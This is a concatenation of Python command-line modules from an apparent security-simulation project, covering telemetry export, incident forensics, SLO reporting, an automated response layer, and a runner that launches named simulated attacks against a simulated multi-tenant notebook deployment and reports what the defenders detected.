        "tenants": len(scenario.tenant_names),
        "servers_running": len(scenario.spawner.running()),
        "servers_culled": len(scenario.culler.culled),
        "proxy": scenario.proxy.summary(),
        "workloads": workloads,
        "attack": attack_payload,
        "hub_scan": {"grade": scan.grade, "risk_score": scan.risk_score,
                     "failures": [r.check_id for r in scan.failures]},
        "monitor_notices": sorted({n.name for n in scenario.monitor.logs.notices}),
    }
    if args.json:
        print(json.dumps(payload, indent=2, default=str))
    else:
        print(f"hub       : {len(scenario.tenant_names)} tenants, "
              f"{payload['servers_running']} running, "
              f"{payload['servers_culled']} culled")
        proxy = payload["proxy"]
        print(f"proxy     : {proxy['requests_total']} requests "
              f"({proxy['routed_total']} routed, {proxy['denied_total']} denied), "
              f"{proxy['bytes_in']}B in / {proxy['bytes_out']}B out")
        for w in workloads:
            print(f"workload  : {w['tenant']} ran {w['cells']} cells ({w['errors']} errors)")
        if attack_payload:
            print(f"attack    : {attack_payload['narrative']} "
                  f"(success={attack_payload['success']})")
        print(f"hub scan  : grade {payload['hub_scan']['grade']} "
              f"(risk {payload['hub_scan']['risk_score']:.0f}) "
              f"failures: {', '.join(payload['hub_scan']['failures']) or '(none)'}")
        print(f"monitor   : {', '.join(payload['monitor_notices']) or '(no notices)'}")
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
