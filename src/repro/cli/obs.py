"""``repro obs``: the observability surface over one instrumented world.

Three modes, all of which build a topology fresh, drive one canned
arms-race campaign through it, and then read *only* the telemetry the
world accumulated — metrics registry, trace store, event timeline:

- ``--incident [ID]`` — print the causal why-was-this-blocked chain for
  one incident (default: the first contained external incident): the
  front-door request, the detector hit it triggered, the correlated
  incident, and every containment action.  Exit status is non-zero if
  the chain is missing a causal stage — the acceptance gate that the
  trace propagation survived proxy → wire → SOC.
- ``--export FORMAT`` — dump the registry or timeline in ``prometheus``,
  ``metrics-jsonl``, or ``timeline-jsonl`` form.
- ``--smoke`` — CI gate: run a short campaign, render every exporter,
  validate each against its schema, and check the registry actually
  carries proxy/monitor/SOC families.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional

from repro.telemetry.exporters import (
    TIMELINE_REQUIRED_KEYS,
    render_metrics_jsonl,
    render_prometheus,
    render_timeline_jsonl,
    validate_jsonl,
    validate_prometheus,
)
from repro.telemetry.forensics import (
    STAGE_NAMES,
    chain_stages,
    describe_chain,
    incident_chain,
)

EXPORT_FORMATS = ("prometheus", "metrics-jsonl", "timeline-jsonl")

#: Metric families whose presence proves each subsystem reported in.
SMOKE_REQUIRED_FAMILIES = (
    "proxy_requests_total",
    "monitor_segments_total",
    "soc_polls_total",
    "wire_messages_total",
)


def _build_and_run(*, topology: str, campaign: str, seed: int,
                   tenants: int):
    """One instrumented world with a canned campaign's history in it."""
    from repro.attacks.campaign import run_campaign
    from repro.hub.users import insecure_hub_config
    from repro.soc.replay import CANNED
    from repro.topology import WorldBuilder, resolve_spec

    factory = CANNED.get(campaign)
    if factory is None:
        raise KeyError(f"unknown canned campaign {campaign!r} "
                       f"(have: {', '.join(sorted(CANNED))})")
    spec = resolve_spec(topology, n_tenants=tenants,
                        hub_config=insecure_hub_config())
    scenario = WorldBuilder().build(spec, seed=seed)
    run_campaign(scenario, factory())
    return scenario


def _pick_incident(soc, incident_id: Optional[str]):
    if incident_id:
        incident = soc.correlator.get(incident_id)
        if incident is None:
            known = ", ".join(sorted(i.incident_id
                                     for i in soc.correlator.incidents.values()))
            raise KeyError(f"no incident {incident_id!r} "
                           f"(correlated: {known or 'none'})")
        return incident
    # Default: the incident whose story is worth telling — contained
    # and external first, then by severity.
    ranked = soc.correlator.by_severity()
    if not ranked:
        raise KeyError("the campaign produced no incidents")
    for incident in ranked:
        if incident.external and incident.contained:
            return incident
    return ranked[0]


def _incident(args, out) -> int:
    scenario = _build_and_run(topology=args.topology, campaign=args.campaign,
                              seed=args.seed, tenants=args.tenants)
    soc = getattr(scenario, "soc", None)
    telemetry = getattr(scenario, "telemetry", None)
    if soc is None or telemetry is None or not telemetry.enabled:
        print("obs: topology has no SOC or telemetry is disabled",
              file=sys.stderr)
        return 2
    try:
        incident = _pick_incident(soc, args.incident or None)
    except KeyError as exc:
        print(f"obs: {exc}", file=sys.stderr)
        return 1
    spans = incident_chain(telemetry.tracer, incident.span_id)
    print(f"incident {incident.incident_id}: {incident.describe()}", file=out)
    if not spans:
        print("  (no trace recorded — span store may have wrapped)", file=out)
        return 1
    for line in describe_chain(spans):
        print(line, file=out)
    stages = chain_stages(spans)
    expected = [label for _, label in STAGE_NAMES]
    print(f"  stages: {' -> '.join(stages)}", file=out)
    if args.json:
        print(json.dumps([s.to_dict() for s in spans], indent=2), file=out)
    if stages != expected:
        missing = [s for s in expected if s not in stages]
        print(f"obs: INCOMPLETE chain — missing stage(s): "
              f"{', '.join(missing)}", file=sys.stderr)
        return 1
    return 0


def _export(args, out) -> int:
    scenario = _build_and_run(topology=args.topology, campaign=args.campaign,
                              seed=args.seed, tenants=args.tenants)
    telemetry = scenario.telemetry
    if args.export == "prometheus":
        out.write(render_prometheus(telemetry.registry))
    elif args.export == "metrics-jsonl":
        out.write(render_metrics_jsonl(telemetry.registry))
    else:
        out.write(render_timeline_jsonl(telemetry.timeline))
    return 0


def _smoke(args, out) -> int:
    scenario = _build_and_run(topology=args.topology, campaign=args.campaign,
                              seed=args.seed, tenants=args.tenants)
    telemetry = scenario.telemetry
    problems: List[str] = []

    prom = render_prometheus(telemetry.registry)
    problems += [f"prometheus: {p}" for p in validate_prometheus(prom)]
    problems += [f"metrics-jsonl: {p}"
                 for p in validate_jsonl(render_metrics_jsonl(telemetry.registry),
                                         required_keys=("name", "labels", "value"))]
    problems += [f"timeline-jsonl: {p}"
                 for p in validate_jsonl(render_timeline_jsonl(telemetry.timeline),
                                         required_keys=TIMELINE_REQUIRED_KEYS)]
    names = {f.name for f in telemetry.registry.families()}
    for required in SMOKE_REQUIRED_FAMILIES:
        if required not in names:
            problems.append(f"registry: missing family {required!r}")
    if len(telemetry.timeline) == 0:
        problems.append("timeline: campaign recorded no events")
    if not telemetry.tracer.spans():
        problems.append("tracer: campaign recorded no spans")

    summary = telemetry.summary()
    summary["exporter_problems"] = len(problems)
    print(json.dumps(summary, indent=2, sort_keys=True), file=out)
    if problems:
        for p in problems:
            print(f"obs smoke: {p}", file=sys.stderr)
        print(f"obs smoke: FAIL — {len(problems)} problem(s)", file=sys.stderr)
        return 1
    print("obs smoke: OK", file=out)
    return 0


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro-obs",
        description="Inspect the telemetry of one instrumented world")
    mode = parser.add_mutually_exclusive_group(required=True)
    mode.add_argument("--incident", nargs="?", const="", metavar="ID",
                      help="print one incident's causal chain "
                           "(default: the first contained external incident)")
    mode.add_argument("--export", choices=EXPORT_FORMATS,
                      help="dump the registry or timeline in one format")
    mode.add_argument("--smoke", action="store_true",
                      help="validate every exporter against its schema "
                           "(the CI obs-smoke gate)")
    parser.add_argument("--topology", default="defended-sharded-hub",
                        help="topology preset (default: defended-sharded-hub)")
    parser.add_argument("--campaign", default="pivot",
                        help="canned campaign to drive (default: pivot)")
    parser.add_argument("--tenants", type=int, default=6)
    parser.add_argument("--seed", type=int, default=4242)
    parser.add_argument("--json", action="store_true",
                        help="with --incident, also dump the spans as JSON")
    args = parser.parse_args(argv)

    if args.smoke:
        return _smoke(args, sys.stdout)
    if args.export:
        return _export(args, sys.stdout)
    return _incident(args, sys.stdout)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
