"""``repro obs``: the observability surface over one instrumented world.

Three modes, all of which build a topology fresh, drive one canned
arms-race campaign through it, and then read *only* the telemetry the
world accumulated — metrics registry, trace store, event timeline:

- ``--incident [ID]`` — print the causal why-was-this-blocked chain for
  one incident (default: the first contained external incident): the
  front-door request, the detector hit it triggered, the correlated
  incident, and every containment action.  Exit status is non-zero if
  the chain is missing a causal stage — the acceptance gate that the
  trace propagation survived proxy → wire → SOC.
- ``--export FORMAT`` — dump the registry or timeline in ``prometheus``,
  ``metrics-jsonl``, or ``timeline-jsonl`` form.
- ``--smoke`` — CI gate: run a short campaign, render every exporter,
  validate each against its schema, and check the registry actually
  carries proxy/monitor/SOC families.
- ``--flame [WEIGHT]`` — run the campaign with the profiler armed and
  print a collapsed-stack flamegraph (``units`` by default; ``sim`` for
  sim-clock self-time, ``wall`` for the sampled non-deterministic wall
  profile).  Exit status is non-zero unless the export is non-empty and
  its frames name the real hot-path functions.
- ``--slo`` — arm the default SLOs plus the shaping-delay objective on a
  padded fleet, run the campaign, and print the fleet-merged latency
  view (federated quantile sketches across every shard) and the SLO
  burn report.  Exit status is non-zero unless >= 3 shards federate, an
  ``SLO_BURN`` incident correlates, and a playbook action fired on it.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional

from repro.telemetry.exporters import (
    TIMELINE_REQUIRED_KEYS,
    render_metrics_jsonl,
    render_prometheus,
    render_timeline_jsonl,
    validate_jsonl,
    validate_prometheus,
)
from repro.telemetry.forensics import (
    STAGE_NAMES,
    chain_stages,
    describe_chain,
    incident_chain,
)

EXPORT_FORMATS = ("prometheus", "metrics-jsonl", "timeline-jsonl")

#: Metric families whose presence proves each subsystem reported in.
SMOKE_REQUIRED_FAMILIES = (
    "proxy_requests_total",
    "monitor_segments_total",
    "soc_polls_total",
    "wire_messages_total",
)


def _build_and_run(*, topology: str, campaign: str, seed: int,
                   tenants: int, profile: bool = False, slos=()):
    """One instrumented world with a canned campaign's history in it.
    ``profile`` arms the work-unit profiler; ``slos`` arms burn-rate
    evaluation (both via spec replacement, so presets stay untouched)."""
    from repro.attacks.campaign import run_campaign
    from repro.hub.users import insecure_hub_config
    from repro.soc.replay import CANNED
    from repro.topology import WorldBuilder, resolve_spec

    factory = CANNED.get(campaign)
    if factory is None:
        raise KeyError(f"unknown canned campaign {campaign!r} "
                       f"(have: {', '.join(sorted(CANNED))})")
    spec = resolve_spec(topology, n_tenants=tenants,
                        hub_config=insecure_hub_config())
    if profile or slos:
        from dataclasses import replace

        changes = {}
        if profile:
            changes["telemetry"] = replace(spec.telemetry, profile=True)
        if slos:
            changes["slos"] = tuple(slos)
        spec = replace(spec, **changes)
    scenario = WorldBuilder().build(spec, seed=seed)
    run_campaign(scenario, factory())
    return scenario


def _pick_incident(soc, incident_id: Optional[str]):
    if incident_id:
        incident = soc.correlator.get(incident_id)
        if incident is None:
            known = ", ".join(sorted(i.incident_id
                                     for i in soc.correlator.incidents.values()))
            raise KeyError(f"no incident {incident_id!r} "
                           f"(correlated: {known or 'none'})")
        return incident
    # Default: the incident whose story is worth telling — contained
    # and external first, then by severity.
    ranked = soc.correlator.by_severity()
    if not ranked:
        raise KeyError("the campaign produced no incidents")
    for incident in ranked:
        if incident.external and incident.contained:
            return incident
    return ranked[0]


def _incident(args, out) -> int:
    scenario = _build_and_run(topology=args.topology, campaign=args.campaign,
                              seed=args.seed, tenants=args.tenants)
    soc = getattr(scenario, "soc", None)
    telemetry = getattr(scenario, "telemetry", None)
    if soc is None or telemetry is None or not telemetry.enabled:
        print("obs: topology has no SOC or telemetry is disabled",
              file=sys.stderr)
        return 2
    try:
        incident = _pick_incident(soc, args.incident or None)
    except KeyError as exc:
        print(f"obs: {exc}", file=sys.stderr)
        return 1
    spans = incident_chain(telemetry.tracer, incident.span_id)
    print(f"incident {incident.incident_id}: {incident.describe()}", file=out)
    if not spans:
        print("  (no trace recorded — span store may have wrapped)", file=out)
        return 1
    for line in describe_chain(spans):
        print(line, file=out)
    stages = chain_stages(spans)
    expected = [label for _, label in STAGE_NAMES]
    print(f"  stages: {' -> '.join(stages)}", file=out)
    if args.json:
        print(json.dumps([s.to_dict() for s in spans], indent=2), file=out)
    if stages != expected:
        missing = [s for s in expected if s not in stages]
        print(f"obs: INCOMPLETE chain — missing stage(s): "
              f"{', '.join(missing)}", file=sys.stderr)
        return 1
    return 0


def _export(args, out) -> int:
    scenario = _build_and_run(topology=args.topology, campaign=args.campaign,
                              seed=args.seed, tenants=args.tenants)
    telemetry = scenario.telemetry
    if args.export == "prometheus":
        out.write(render_prometheus(telemetry.registry))
    elif args.export == "metrics-jsonl":
        out.write(render_metrics_jsonl(telemetry.registry))
    else:
        out.write(render_timeline_jsonl(telemetry.timeline))
    return 0


def _smoke(args, out) -> int:
    scenario = _build_and_run(topology=args.topology, campaign=args.campaign,
                              seed=args.seed, tenants=args.tenants)
    telemetry = scenario.telemetry
    problems: List[str] = []

    prom = render_prometheus(telemetry.registry)
    problems += [f"prometheus: {p}" for p in validate_prometheus(prom)]
    problems += [f"metrics-jsonl: {p}"
                 for p in validate_jsonl(render_metrics_jsonl(telemetry.registry),
                                         required_keys=("name", "labels", "value"))]
    problems += [f"timeline-jsonl: {p}"
                 for p in validate_jsonl(render_timeline_jsonl(telemetry.timeline),
                                         required_keys=TIMELINE_REQUIRED_KEYS)]
    names = {f.name for f in telemetry.registry.families()}
    for required in SMOKE_REQUIRED_FAMILIES:
        if required not in names:
            problems.append(f"registry: missing family {required!r}")
    if len(telemetry.timeline) == 0:
        problems.append("timeline: campaign recorded no events")
    if not telemetry.tracer.spans():
        problems.append("tracer: campaign recorded no spans")

    summary = telemetry.summary()
    summary["exporter_problems"] = len(problems)
    print(json.dumps(summary, indent=2, sort_keys=True), file=out)
    if problems:
        for p in problems:
            print(f"obs smoke: {p}", file=sys.stderr)
        print(f"obs smoke: FAIL — {len(problems)} problem(s)", file=sys.stderr)
        return 1
    print("obs smoke: OK", file=out)
    return 0


#: Leaf frame names a profiled JUPYTER-depth campaign must surface for
#: the flamegraph export to count as working: the WS drain loop, the
#: canonical probe, the signature scan, and the proxy respond hook.
FLAME_EXPECTED_LEAVES = ("_feed_ws", "probe_ws_canonical", "scan_jupyter",
                         "_ProxyChannel.respond")

#: The topology ``--slo`` defaults to: padded (so the shaping-delay
#: objective has something to burn on), defended (so the burn incident
#: has a playbook to fire), and geo-sharded (so the fleet view federates
#: >= 3 shards).
SLO_DEFAULT_TOPOLOGY = "defended-padded-sharded-hub-geo"


def _flame(args, out) -> int:
    scenario = _build_and_run(topology=args.topology, campaign=args.campaign,
                              seed=args.seed, tenants=args.tenants,
                              profile=True)
    telemetry = scenario.telemetry
    profiler = telemetry.profiler
    if profiler is None:
        print("obs: topology built no profiler (telemetry disabled?)",
              file=sys.stderr)
        return 2
    profiler.ingest_spans(telemetry.tracer)
    weight = args.flame
    text = profiler.collapsed(weight)
    out.write(text)
    if not text:
        print(f"obs flame: FAIL — no frames carry {weight!r} weight",
              file=sys.stderr)
        return 1
    leaves = {line.rsplit(" ", 1)[0].split(";")[-1]
              for line in text.splitlines()}
    if weight == "units":
        missing = [leaf for leaf in FLAME_EXPECTED_LEAVES
                   if leaf not in leaves]
        if missing:
            print(f"obs flame: FAIL — hot-path frame(s) missing from the "
                  f"export: {', '.join(missing)}", file=sys.stderr)
            return 1
    return 0


def _slo(args, out) -> int:
    from repro.telemetry import (
        DEFAULT_SLOS, SHAPING_DELAY_SLO, FederatedScraper, shard_views)

    try:
        scenario = _build_and_run(
            topology=args.topology, campaign=args.campaign,
            seed=args.seed, tenants=args.tenants,
            slos=DEFAULT_SLOS + (SHAPING_DELAY_SLO,))
    except ValueError as exc:
        print(f"obs: cannot arm SLOs on {args.topology!r}: {exc}",
              file=sys.stderr)
        return 2
    telemetry = scenario.telemetry
    soc = scenario.soc
    problems: List[str] = []

    # Fleet-merged latency view: split the shared registry into
    # per-shard scrape views, federate them, read the merged sketches.
    scraper = FederatedScraper()
    views = shard_views(telemetry.registry, label="proxy")
    scraper.scrape_all(views)
    fleet = scraper.fleet_quantiles("proxy_request_seconds")
    per_shard = scraper.shard_quantile("proxy_request_seconds", 0.99)
    print(f"fleet proxy_request_seconds over {len(views)} shard(s): "
          f"p50={fleet['p50'] * 1e3:.2f}ms p99={fleet['p99'] * 1e3:.2f}ms",
          file=out)
    for shard, p99 in per_shard.items():
        print(f"  shard {shard}: p99={p99 * 1e3:.2f}ms", file=out)
    if len(views) < 3:
        problems.append(f"fleet view federates {len(views)} shard(s), "
                        f"need >= 3")
    if not any(v > 0.0 for v in fleet.values()):
        problems.append("fleet quantiles are all zero (no latency data)")

    print("slo report:", file=out)
    for row in scenario.slo.report():
        print(f"  {row['slo']:<18} {row['kind']:<12} "
              f"objective={row['objective']:<6} good={row['good']:.0f} "
              f"bad={row['bad']:.0f} fast_burn={row['fast_burn']} "
              f"slow_burn={row['slow_burn']} burns={row['burns']}",
              file=out)

    burns = [i for i in soc.correlator.incidents.values()
             if "SLO_BURN" in i.notice_names]
    fired = [a for a in soc.executed
             if a.rule == "shed-padding-on-burn" and a.ok and not a.dry_run]
    for incident in burns:
        print(f"incident {incident.incident_id}: {incident.describe()}",
              file=out)
    for action in fired:
        print(f"action [{action.rule}] {action.action}({action.target}) "
              f"ok: {action.detail}", file=out)
    if not burns:
        problems.append("no SLO_BURN incident was correlated")
    if not fired:
        problems.append("no shed-padding-on-burn action executed")
    if problems:
        for p in problems:
            print(f"obs slo: {p}", file=sys.stderr)
        print(f"obs slo: FAIL — {len(problems)} problem(s)", file=sys.stderr)
        return 1
    print("obs slo: OK", file=out)
    return 0


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro-obs",
        description="Inspect the telemetry of one instrumented world")
    mode = parser.add_mutually_exclusive_group(required=True)
    mode.add_argument("--incident", nargs="?", const="", metavar="ID",
                      help="print one incident's causal chain "
                           "(default: the first contained external incident)")
    mode.add_argument("--export", choices=EXPORT_FORMATS,
                      help="dump the registry or timeline in one format")
    mode.add_argument("--smoke", action="store_true",
                      help="validate every exporter against its schema "
                           "(the CI obs-smoke gate)")
    mode.add_argument("--flame", nargs="?", const="units",
                      choices=("units", "sim", "wall"), metavar="WEIGHT",
                      help="print a collapsed-stack flamegraph of the "
                           "profiled campaign (default weight: units)")
    mode.add_argument("--slo", action="store_true",
                      help="arm burn-rate SLOs on a padded fleet and print "
                           "the federated latency view + burn report")
    parser.add_argument("--topology", default=None,
                        help="topology preset (default: defended-sharded-hub; "
                             f"--slo defaults to {SLO_DEFAULT_TOPOLOGY})")
    parser.add_argument("--campaign", default=None,
                        help="canned campaign to drive (default: pivot; "
                             "--flame defaults to exfil, which exercises "
                             "the kernel-channel hot path)")
    parser.add_argument("--tenants", type=int, default=6)
    parser.add_argument("--seed", type=int, default=4242)
    parser.add_argument("--json", action="store_true",
                        help="with --incident, also dump the spans as JSON")
    args = parser.parse_args(argv)
    if args.topology is None:
        args.topology = (SLO_DEFAULT_TOPOLOGY if args.slo
                         else "defended-sharded-hub")
    if args.campaign is None:
        args.campaign = "exfil" if args.flame else "pivot"

    if args.smoke:
        return _smoke(args, sys.stdout)
    if args.export:
        return _export(args, sys.stdout)
    if args.flame:
        return _flame(args, sys.stdout)
    if args.slo:
        return _slo(args, sys.stdout)
    return _incident(args, sys.stdout)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
