"""``repro``: the umbrella command-line entry point.

One console script with subcommands delegating to the dedicated tools::

    repro scan ...       misconfiguration scanner
    repro taxonomy ...   render Fig. 1 / Fig. 3 / Table 1
    repro attack ...     run one attack against a fresh scenario
    repro dataset ...    build/export a labeled corpus
    repro monitor ...    replay a scenario and summarize monitor logs
    repro hub ...        run a fleet-scale multi-tenant hub scenario
    repro topology ...   list/smoke/matrix the registered world specs
    repro soc ...        rules/replay/matrix for the automated response layer
    repro adversary ...  list/duel/matrix for the adaptive adversary engine
    repro obs ...        incident forensics and telemetry exporters
    repro traffic ...    timing recon vs padding/jitter countermeasures
"""

from __future__ import annotations

import sys
from typing import Callable, Dict, List, Optional

from repro.cli import adversary as _adversary
from repro.cli import attack as _attack
from repro.cli import dataset as _dataset
from repro.cli import hub as _hub
from repro.cli import monitor as _monitor
from repro.cli import obs as _obs
from repro.cli import scan as _scan
from repro.cli import soc as _soc
from repro.cli import taxonomy as _taxonomy
from repro.cli import topology as _topology
from repro.cli import traffic as _traffic

SUBCOMMANDS: Dict[str, Callable[[Optional[List[str]]], int]] = {
    "scan": _scan.main,
    "taxonomy": _taxonomy.main,
    "attack": _attack.main,
    "dataset": _dataset.main,
    "monitor": _monitor.main,
    "hub": _hub.main,
    "topology": _topology.main,
    "soc": _soc.main,
    "adversary": _adversary.main,
    "obs": _obs.main,
    "traffic": _traffic.main,
}


def main(argv: Optional[List[str]] = None) -> int:
    argv = list(sys.argv[1:] if argv is None else argv)
    if not argv or argv[0] in ("-h", "--help"):
        names = ", ".join(sorted(SUBCOMMANDS))
        print(f"usage: repro <subcommand> [options]\nsubcommands: {names}")
        return 0 if argv else 2
    name, rest = argv[0], argv[1:]
    sub = SUBCOMMANDS.get(name)
    if sub is None:
        print(f"repro: unknown subcommand {name!r} "
              f"(expected one of: {', '.join(sorted(SUBCOMMANDS))})", file=sys.stderr)
        return 2
    return sub(rest)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
