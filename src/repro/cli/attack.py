"""``repro-attack``: execute one attack and report both sides."""

from __future__ import annotations

import argparse
import json
import sys
from typing import Callable, Dict, List, Optional

from repro.attacks import (
    CrossTenantPivotAttack,
    CryptominingAttack,
    CredentialStuffingAttack,
    ExfiltrationAttack,
    LowAndSlowExfiltration,
    MonitorFloodAttack,
    OpenServerExploitAttack,
    OpenServerScanAttack,
    OutputSmugglingAttack,
    RansomwareAttack,
    RuleInferenceAttack,
    StolenTokenAttack,
    TokenBruteforceAttack,
    ZeroDayAttack,
)
from repro.server.config import ServerConfig, insecure_demo_config

ATTACKS: Dict[str, Callable[[], object]] = {
    "ransomware": lambda: RansomwareAttack(via="kernel"),
    "ransomware-rest": lambda: RansomwareAttack(via="rest"),
    "exfiltration": ExfiltrationAttack,
    "low-and-slow": LowAndSlowExfiltration,
    "output-smuggling": OutputSmugglingAttack,
    "cryptomining": lambda: CryptominingAttack(rounds=8, hashes_per_round=300),
    "token-bruteforce": TokenBruteforceAttack,
    "credential-stuffing": CredentialStuffingAttack,
    "stolen-token": StolenTokenAttack,
    "open-server-scan": OpenServerScanAttack,
    "open-server-exploit": OpenServerExploitAttack,
    "zero-day": lambda: ZeroDayAttack(exfil_bytes=50_000),
    "monitor-flood": MonitorFloodAttack,
    "rule-inference": RuleInferenceAttack,
    "cross-tenant-pivot": CrossTenantPivotAttack,
}


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(prog="repro-attack",
                                     description="Run one attack against a fresh simulated deployment")
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--insecure-server", action="store_true",
                        help="target the classic token-less 0.0.0.0 deployment "
                             "(single-server topology only)")
    parser.add_argument("--topology", default="single-server",
                        help="world spec preset to attack "
                             "(single-server, hub, sharded-hub, honeypot-hub, ...)")
    parser.add_argument("--seed", type=int, default=1337)
    parser.add_argument("--monitor-budget", type=float, default=0.0,
                        help="monitor processing budget (segments/sec, 0=unlimited)")
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)

    from repro.topology import WorldBuilder, list_presets, spec_preset

    if args.topology not in list_presets():
        parser.error(f"unknown topology {args.topology!r} "
                     f"(registered: {', '.join(list_presets())})")
    overrides = {}
    if args.topology == "single-server":
        overrides["config"] = insecure_demo_config() if args.insecure_server \
            else ServerConfig(ip="0.0.0.0", token="cli-demo-token")
    elif args.insecure_server:
        parser.error("--insecure-server only applies to --topology single-server")
    spec = spec_preset(args.topology, seed=args.seed,
                       monitor_budget=args.monitor_budget, **overrides)
    scenario = WorldBuilder().build(spec)
    attack = ATTACKS[args.attack]()
    result = attack.run(scenario)

    auditor_notices = sorted({
        n.name for auditor in scenario.auditors.values() for n in auditor.notices
    })
    payload = {
        "attack": result.attack,
        "avenue": result.avenue.value,
        "success": result.success,
        "duration_sim_seconds": round(result.duration, 3),
        "narrative": result.narrative,
        "observed_concerns": sorted(c.value for c in result.observed_concerns),
        "metrics": result.metrics,
        "defender": {
            "network_notices": sorted({n.name for n in scenario.monitor.logs.notices}),
            "kernel_audit_notices": auditor_notices,
            "monitor_log_counts": scenario.monitor.logs.counts(),
        },
    }
    if args.json:
        print(json.dumps(payload, indent=2, default=str))
    else:
        print(f"attack    : {payload['attack']} [{payload['avenue']}]")
        print(f"success   : {payload['success']}")
        print(f"narrative : {payload['narrative']}")
        print(f"concerns  : {', '.join(payload['observed_concerns']) or '(none)'}")
        print("defender saw:")
        for n in payload["defender"]["network_notices"]:
            print(f"  [net]    {n}")
        for n in payload["defender"]["kernel_audit_notices"]:
            print(f"  [kernel] {n}")
        if not payload["defender"]["network_notices"] and not auditor_notices:
            print("  (nothing — the attack evaded detection)")
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
