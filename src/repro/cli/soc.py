"""``repro soc``: inspect, replay, and matrix the automated response layer.

Three modes:

- ``--rules``  — the playbook catalogue a defended topology starts with.
- ``--replay`` — drive one canned arms-race campaign (``pivot`` or
  ``exfil``) through a topology and print the detection→containment
  timeline.  Exit status is non-zero if a *defended* topology executed
  zero containment actions — the CI ``soc-smoke`` gate.
- ``--matrix`` — the arms-race matrix: undefended vs defended hubs
  across campaign objectives, with containment and post-detection
  success columns.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Dict, List, Optional

from repro.attacks.campaign import TopologyMatrixRunner
from repro.hub.users import insecure_hub_config
from repro.soc.playbook import DEFAULT_RULES
from repro.soc.replay import CANNED, run_replay
from repro.topology import list_presets, spec_preset


def _print_rules(as_json: bool) -> None:
    if as_json:
        print(json.dumps([{
            "name": r.name, "actions": list(r.actions),
            "avenues": [a.value for a in r.avenues],
            "min_severity": r.min_severity, "min_notices": r.min_notices,
            "source_scope": r.source_scope, "cooldown": r.cooldown,
            "description": r.description,
        } for r in DEFAULT_RULES], indent=2))
        return
    for rule in DEFAULT_RULES:
        avenues = ",".join(a.value for a in rule.avenues) or "any"
        print(f"  {rule.name}")
        print(f"    when: severity>={rule.min_severity} "
              f"notices>={rule.min_notices} scope={rule.source_scope} "
              f"avenues={avenues} cooldown={rule.cooldown:.0f}s")
        print(f"    do:   {' -> '.join(rule.actions)}")
        print(f"    {rule.description}")


def _replay(args, out) -> int:
    report = run_replay(topology=args.topology, campaign=args.campaign,
                        seed=args.seed, insecure=not args.secure,
                        n_tenants=args.tenants)
    if args.json:
        print(json.dumps(report.to_dict(), indent=2, default=str), file=out)
    else:
        o = report.outcome
        print(f"replay: campaign={report.campaign!r} "
              f"topology={report.topology!r} seed={args.seed}", file=out)
        for line in report.notices:
            print(f"  {line}", file=out)
        for line in report.timeline:
            print(f"  {line}", file=out)
        for r in o.results:
            print(f"  stage {r.attack:<28} "
                  f"{'SUCCESS' if r.success else 'failed':<8} {r.narrative}",
                  file=out)
        if o.failed_stage:
            print(f"  stage {o.failed_stage:<28} ABORTED  {o.failure}", file=out)
        lead = o.containment_leadtime
        print(f"  detected={o.detected} contained={o.contained} "
              f"leadtime={f'{lead:.1f}s' if lead is not None else '-'} "
              f"stages_prevented={o.stages_prevented} "
              f"actions={report.containment_actions}", file=out)
    defended = args.topology.startswith("defended-")
    if defended and report.containment_actions == 0:
        print("soc replay: FAIL — defended topology executed no containment "
              "actions", file=sys.stderr)
        return 1
    return 0


def _matrix(args, out) -> int:
    insecure = None if args.secure else insecure_hub_config()

    def pair(name: str) -> Dict[str, object]:
        kwargs = {"n_tenants": args.tenants}
        if insecure is not None:
            kwargs["hub_config"] = insecure_hub_config()
        return {name: spec_preset(name, **kwargs),
                f"defended-{name}": spec_preset(f"defended-{name}", **kwargs)}

    topologies: Dict[str, object] = {}
    for name in args.topologies:
        topologies.update(pair(name))
    report = TopologyMatrixRunner(
        topologies, objectives=args.objectives,
        campaigns_per_cell=args.campaigns, base_seed=args.seed).run()
    if args.json:
        print(json.dumps({"cells": report.to_dict(),
                          "by_topology": report.by_topology()},
                         indent=2, default=str), file=out)
    else:
        print(report.render(), file=out)
    # The gate the ISSUE's CI job needs: a defended matrix that never
    # contains anything means the response layer is wired to nothing.
    defended_contained = sum(
        1 for cell in report.cells
        if cell.topology.startswith("defended-")
        for o in cell.outcomes if o.contained)
    if defended_contained == 0:
        print("soc matrix: FAIL — zero containment actions across the "
              "defended cells", file=sys.stderr)
        return 1
    return 0


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro-soc",
        description="Inspect, replay, or matrix-run the automated response layer")
    mode = parser.add_mutually_exclusive_group(required=True)
    mode.add_argument("--rules", action="store_true",
                      help="print the default response playbook")
    mode.add_argument("--replay", action="store_true",
                      help="run one canned arms-race campaign and print the "
                           "detection->containment timeline")
    mode.add_argument("--matrix", action="store_true",
                      help="undefended vs defended campaign matrix")
    parser.add_argument("--topology", default="defended-hub",
                        help="topology preset for --replay (default: defended-hub)")
    parser.add_argument("--campaign", default="pivot", choices=sorted(CANNED),
                        help="canned campaign for --replay")
    parser.add_argument("--topologies", nargs="*", default=["hub"],
                        help="base presets for --matrix; each runs undefended "
                             "and defended (default: hub; geo cells via "
                             "sharded-hub-geo)")
    parser.add_argument("--objectives", nargs="*",
                        default=["pivot", "steal"],
                        help="campaign objectives for --matrix")
    parser.add_argument("--campaigns", type=int, default=2,
                        help="campaigns per matrix cell")
    parser.add_argument("--tenants", type=int, default=4)
    parser.add_argument("--secure", action="store_true",
                        help="use the hardened hub config instead of the "
                             "insecure (shared-token) one the arms race assumes")
    parser.add_argument("--seed", type=int, default=4242)
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)

    if args.rules:
        _print_rules(args.json)
        return 0
    if args.replay:
        if args.topology not in list_presets():
            parser.error(f"unknown topology {args.topology!r} "
